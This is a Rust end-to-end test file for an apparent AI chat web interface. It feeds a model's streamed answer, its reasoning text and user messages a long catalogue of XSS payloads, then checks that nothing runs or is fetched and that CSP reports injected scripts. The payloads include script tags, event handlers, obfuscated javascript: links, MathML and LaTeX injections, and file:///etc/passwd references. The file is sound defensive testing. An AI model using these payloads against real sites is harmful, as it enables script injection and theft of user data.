//! Malicious answers: none of their code runs, and nothing is fetched.

use serde_json::Value;

use crate::{
    open, say,
    support::{Browser, Endpoint, Scope, Step, Trap, dist},
    wait_for, wait_until,
};

/// The elements allowed in an answer's text at any moment. MathML's are checked separately.
const ALLOWED: &str = "a blockquote br button code del div em figcaption figure h3 h4 h5 h6 hr input li \
    ol p pre span strong sup table tbody td th tr ul details summary sub sup kbd";

/// Watches every element added to an answer's text from now on: `window.seen` lists the forbidden ones,
/// however briefly they were there.
async fn watch(browser: &Browser) {
    let script = format!(
        "window.seen = [];
        const allowed = new Set('{ALLOWED}'.split(/\\s+/));
        // The lines and distances of formulas: no function, and so no address.
        const isPlain = (element, {{ name, value }}) =>
            name === 'style' && element.namespaceURI.endsWith('MathML') && /^[\\w\\s:;,.#%-]*$/.test(value);
        const isBad = ({{ name, value }}) =>
            /^on|^style$|^src|^action|^formaction|^ping$|^poster|^background$|^cite$|href$/i.test(name)
            && !(name === 'href' && (value === '#' || /^(https?|mailto):$/.test(new URL(value, location).protocol)));
        const look = (element) => {{
            if (!element.closest?.('.text')) return;
            const isMaths = element.namespaceURI.endsWith('MathML');
            const name = element.localName;
            if (isMaths ? !/^m[a-z]+$/.test(name) || /annotation|action|semantics/.test(name)
                    : !allowed.has(name)) seen.push(name);
            for (const attribute of element.attributes) {{
                if (isBad(attribute) && !isPlain(element, attribute)) seen.push(`${{name}} ${{attribute.name}}=${{attribute.value}}`);
            }}
        }};
        new MutationObserver((records) => {{
            for (const record of records) {{
                if (record.type === 'attributes') look(record.target);
                for (const node of record.addedNodes) {{
                    if (node.nodeType !== 1) continue;
                    look(node);
                    node.querySelectorAll('*').forEach(look);
                }}
            }}
        }}).observe(document.body, {{ childList: true, subtree: true, attributes: true }});
        for (const element of document.querySelectorAll('.text, .text *')) look(element);"
    );
    browser.script(&script).await;
}

/// Fails if any code ran, or a forbidden element was on the page.
async fn is_harmless(browser: &Browser) {
    assert_eq!(
        browser.script("return window.seen").await,
        Value::Array(vec![])
    );
    assert!(browser.script("return window.hacked").await.is_null());
}

/// Returns every attack we could think of, aimed at this server.
fn hostile(trap: &Trap) -> String {
    let at = format!("http://{}", trap.host());
    let run = "window.hacked=1";
    [
        // Raw HTML, as a block and inline, whole and broken.
        format!("<script>{run}</script>"),
        format!("<script src=\"{at}/script.js\"></script>"),
        format!("<img src=x onerror=\"{run}\">"),
        format!("A line with <img src=\"{at}/raw.png\" onerror=\"{run}\"> and <b onclick=\"{run}\">b</b>."),
        format!("<iframe src=\"{at}/frame\"></iframe><iframe srcdoc=\"<script>parent.{run}</script>\"></iframe>"),
        format!("<style>@import url({at}/style.css); * {{ background: url({at}/background.png) }}</style>"),
        format!("<link rel=\"stylesheet\" href=\"{at}/link.css\"><link rel=\"preconnect\" href=\"{at}\">"),
        format!("<meta http-equiv=\"refresh\" content=\"0;url={at}/refresh\"><base href=\"{at}/\">"),
        format!("<object data=\"{at}/object\"></object><embed src=\"{at}/embed\"><video src=\"{at}/video\" autoplay></video>"),
        format!("<svg onload=\"{run}\"><image href=\"{at}/svg.png\"/><a xlink:href=\"javascript:{run}\"><text>x</text></a></svg>"),
        format!("<math><mtext><table><mglyph><style><img src=x onerror=\"{run}\"></style></mglyph></table></mtext></math>"),
        format!("<form action=\"{at}/form\"><input autofocus onfocus=\"{run}\"><button formaction=\"javascript:{run}\">b</button></form>"),
        format!("<details open ontoggle=\"{run}\"><summary>s</summary></details>"),
        format!("<!--><img src=x onerror=\"{run}\">-->"),
        // Links in every spelling.
        format!("[l1](javascript:{run}) [l2](JaVaScRiPt:{run}) [l3](java&Tab;script:{run}) [l4](&#106;avascript:{run})"),
        format!("[l5](java&#x0A;script:{run}) [l6](<  javascript:{run}>) [l7](&#1;javascript:{run}) [l8](vbscript:{run})"),
        format!("[l9](data:text/html,<script>parent.{run}</script>) [l10](data:text/html;base64,PHNjcmlwdD4=) [l11](file:///etc/passwd)"),
        format!("<javascript:{run}> <data:text/html,x> [l12][evil] [l13](javascript&colon;{run}) [l14](javascript://example.com/%0a{run})"),
        format!("[l15](blob:{at}/b) [l16](//javascript:{run}) [l17](view-source:{at}/) [l18](http:javascript:{run})"),
        format!("[evil]: javascript:{run}"),
        // Text that looks like attributes.
        format!("[t1]({at}/t1 \"\\\" onmouseover=\\\"{run}\") [t2]({at}/t2 'x\" autofocus onfocus=\"{run}') [t3]({at}/\" onclick=\"{run})"),
        format!("![\" onerror=\"{run}]({at}/alt.png \"\\\" onload=\\\"{run}\")"),
        // Images, which are fetched only when the user wants them.
        format!("![pixel]({at}/pixel.gif) ![data](data:image/svg+xml,<svg/onload={run}>) ![script](javascript:{run}) ![reference][r]"),
        format!("[![linked]({at}/linked.gif)]({at}/linked)"),
        format!("[r]: {at}/reference.gif"),
        // Formulas.
        format!("$\\href{{javascript:{run}}}{{x}}$ $\\url{{javascript:{run}}}$ $\\html{{<img src=x onerror={run}>}}$"),
        format!("$\\htmlData{{onclick={run}}}{{x}}$ $\\class{{x\" onclick=\"{run}}}{{y}}$ $\\cssId{{a}}{{b}}$ $\\style{{background:url({at}/maths.png)}}{{x}}$"),
        format!("$\\text{{<img src=x onerror={run}>}}$ $\\operatorname{{<img src=x onerror={run}>}}$ $\\mathrm{{\"><script>{run}</script>}}$"),
        format!("$\\includegraphics{{{at}/graphics.png}}$ $\\color{{red\" onload=\"{run}}}{{x}}$ $\\def\\a{{\\a\\a}}\\a$ $\\input{{/etc/passwd}}$"),
        format!("$$\\begin{{array}}{{c\"onclick=\"{run}}} <mglyph src=\"{at}/glyph.png\"/> \\end{{array}}$$"),
        "$x^{&lt;script&gt;}$ $<annotation-xml encoding=\"text/html\"><img src=x></annotation-xml>$".to_owned(),
        // Fences, notes and tables.
        format!("```\"><img/src=x/onerror={run}>\ncode 1\n```"),
        format!("```x\"onclick=\"{run}\ncode 2 <img src=x onerror={run}>\n```"),
        format!("```html\n<img src=\"{at}/preview.png\" onerror=\"{run}\"><script>parent.{run}</script>\n```"),
        format!("| <img src=x onerror={run}> |\n|---|\n| [l](javascript:{run}) |"),
        format!("Note[^\"onclick={run}]\n\n[^\"onclick={run}]: <img src=x onerror={run}>"),
        format!("> [!NOTE\" onclick=\"{run}]\n> x"),
        format!("# <img src=x onerror={run}> {{#id onclick={run}}}"),
        "The last of all.".to_owned(),
    ]
    .join("\n\n")
}

/// Sends a text in pieces of this many characters.
fn pieces(text: &str, size: usize) -> Vec<Step> {
    let letters: Vec<_> = text.chars().collect();
    let mut steps = Vec::new();
    for piece in letters.chunks(size) {
        steps.extend([Step::Say(piece.iter().collect()), Step::Rest(5)]);
    }
    steps.push(Step::Finish("stop"));
    steps
}

async fn is_drawn(answer: &Scope) {
    answer.says("The last of all.").await;
    // Formulas and code go through a worker: those that can be typeset are.
    if dist::has("maths") {
        answer
            .comes_true("return it.querySelectorAll('math').length > 0")
            .await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_of_a_hostile_answer_runs_or_is_fetched() {
    let endpoint = Endpoint::start(&["m"]).await;
    let trap = Trap::set().await;
    let text = hostile(&trap);
    endpoint.will("m", pieces(&text, 17));
    let browser = open(&endpoint, "").await;
    watch(&browser).await;
    let card = browser.card(1).await;
    card.send("Go").await;
    let answer = card.find("article", "m").await;
    is_drawn(&answer).await;
    card.find("button", "Send").await;
    is_harmless(&browser).await;
    // Markup is shown as written.
    for written in [
        "<script>window.hacked=1</script>",
        "onclick=\"window.hacked=1\"",
    ] {
        answer.says(written).await;
    }
    // Only the links to the web are links.
    let links = "return [...it.querySelectorAll('a[href]')].map((link) => link.textContent)";
    let links = answer.script(links).await;
    for link in links.as_array().unwrap() {
        let name = link.as_str().unwrap();
        let number = name
            .strip_prefix('l')
            .and_then(|number| number.parse::<u32>().ok());
        assert!(number.is_none_or(|number| number == 18), "{links}");
    }
    // Clicks run nothing either. Links, which open in tabs of their own, are left out.
    answer
        .script(
            "for (const element of it.querySelectorAll('.text *')) {
                if (!element.closest('a, button')) {
                    element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
                }
            }",
        )
        .await;
    is_harmless(&browser).await;

    browser.reload().await;
    watch(&browser).await;
    let answer = browser.card(1).await.find("article", "m").await;
    is_drawn(&answer).await;
    is_harmless(&browser).await;
    assert_eq!(trap.heard(), Vec::<String>::new());
    assert_eq!(browser.driver.windows().await.unwrap().len(), 1);

    // An image is fetched when the user wants it, and nothing else with it.
    load_image(&answer, &trap, "pixel").await;
    wait_until(|| trap.asked() == ["GET /pixel.gif HTTP/1.1"]).await;
    let told = trap.heads().concat().to_ascii_lowercase();
    assert!(
        !told.contains("\nreferer:") && !told.contains("\ncookie:"),
        "{told}"
    );
    assert!(browser.script("return window.hacked").await.is_null());
    browser.close().await;
}

/// Presses the button in place of an image, and waits until the image is there.
async fn load_image(answer: &Scope, trap: &Trap, name: &str) -> Scope {
    let button = format!("Load image {name} ({})", trap.host());
    answer.press(&button).await;
    let image = answer.find("image", name).await;
    let is_loaded = "return it.complete && it.naturalWidth === 1";
    image.comes_true(is_loaded).await;
    image
}

#[tokio::test(flavor = "multi_thread")]
async fn an_image_within_a_link_is_loaded_without_following_the_link() {
    let endpoint = Endpoint::start(&["m"]).await;
    let trap = Trap::set().await;
    let at = format!("http://{}", trap.host());
    let text = format!("[![linked]({at}/linked.gif)]({at}/followed)");
    endpoint.will("m", [say(&text), Step::Finish("stop")]);
    let browser = open(&endpoint, "").await;
    let card = browser.card(1).await;
    card.send("Go").await;
    let answer = card.find("article", "m").await;
    assert_eq!(trap.heard(), Vec::<String>::new());
    let image = load_image(&answer, &trap, "linked").await;
    assert_eq!(trap.asked(), ["GET /linked.gif HTTP/1.1"]);
    assert_eq!(browser.driver.windows().await.unwrap().len(), 1);
    // The image is then the link, as intended.
    image.click().await;
    wait_for(async || browser.driver.windows().await.unwrap().len() == 2).await;
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_reader_asks_a_model_says_and_thinks_is_text_everywhere() {
    let endpoint = Endpoint::start(&["m"]).await;
    let trap = Trap::set().await;
    let hostile = format!(
        "<img src=\"http://{}/x.png\" onerror=\"window.hacked = 1\"><script>window.hacked = 1</script>&lt;",
        trap.host()
    );
    endpoint.will(
        "m",
        [
            Step::Delta(serde_json::json!({ "reasoning_content": hostile })),
            say(&hostile),
            Step::Finish("stop"),
        ],
    );
    let browser = open(&endpoint, "").await;
    watch(&browser).await;
    let card = browser.card(1).await;
    card.send(&hostile).await;
    card.find("article", "You").await.says(&hostile).await;
    let answer = card.find("article", "m").await;
    answer.says("<script>window.hacked = 1</script>").await;
    card.find("button", "Send").await;
    answer.nth("DisclosureTriangle", 0).await.click().await;
    answer
        .shows("the thoughts and the answer", |shown| {
            shown.matches("<script>").count() == 2
        })
        .await;
    // The history shows it as text, too.
    let history = browser.history().await;
    history.says("<img src=").await;
    is_harmless(&browser).await;
    assert_eq!(trap.heard(), Vec::<String>::new());
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_that_is_not_the_pages_own_is_blocked_and_reported() {
    let trap = Trap::set().await;
    let browser = Browser::open().await;
    browser.card(1).await;
    assert_eq!(browser.violations().await, Vec::<String>::new());
    browser.expect_violations();
    let at = format!("http://{}", trap.host());
    let run = "window.hacked = 1";
    let put = "document.body.append(it); it.click?.(); it.remove()";
    let element = "const it = document.createElement('script')";
    let link = "const it = document.createElement('a')";
    let tries = [
        format!("{element}; it.append('{run}'); {put}"),
        format!("{element}; it.textContent = '{run}'; {put}"),
        format!("{element}; it.src = '{at}/script.js'; {put}"),
        format!("{element}; it.src = 'data:text/javascript,{run}'; {put}"),
        format!("{element}; it.type = 'module'; it.src = '{at}/module.js'; {put}"),
        format!("import('{at}/import.js').catch(() => {{}})"),
        format!("import('data:text/javascript,{run}').catch(() => {{}})"),
        format!("eval('{run}')"),
        format!("new Function('{run}')()"),
        format!("setTimeout('{run}')"),
        format!(
            "const it = document.createElement('button'); it.setAttribute('onclick', '{run}'); {put}"
        ),
        format!("{link}; it.href = 'javascript:{run}'; {put}"),
        format!("{link}; it.setAttribute('href', 'javascript:{run}'); it.target = '_self'; {put}"),
    ];
    for attempt in tries {
        // Printed if the test fails.
        println!("{attempt}");
        let before = browser.violations().await.len();
        // Runs later, because a browser may let a driver's own script evaluate anything. Some attempts
        // are blocked by an exception.
        let attempt = format!("setTimeout(() => {{ try {{ {attempt} }} catch {{}} }})");
        browser.script(&attempt).await;
        wait_for(async || browser.violations().await.len() > before).await;
        assert!(browser.script("return window.hacked").await.is_null());
    }
    // The rule for scripts reports it, or the one for values that may become scripts (Trusted Types).
    let reports = browser.violations().await;
    let noticed = |name: &str| reports.iter().any(|report| report.contains(name));
    assert!(noticed("script-src"), "{reports:#?}");
    for report in &reports {
        let known = ["script-src", "trusted-types", "Trusted"];
        assert!(known.iter().any(|name| report.contains(name)), "{report}");
    }
    assert_eq!(trap.heard(), Vec::<String>::new());
    // The page is unchanged, and its own scripts run.
    browser.card(1).await.find("form", "Custom model").await;
    let settings = browser.settings().await;
    settings.press("Close").await;
    // The reports survive a reload.
    browser.reload().await;
    browser.card(1).await;
    assert!(
        !browser
            .script("return testViolations")
            .await
            .as_array()
            .unwrap()
            .is_empty()
    );
    browser.close().await;
}
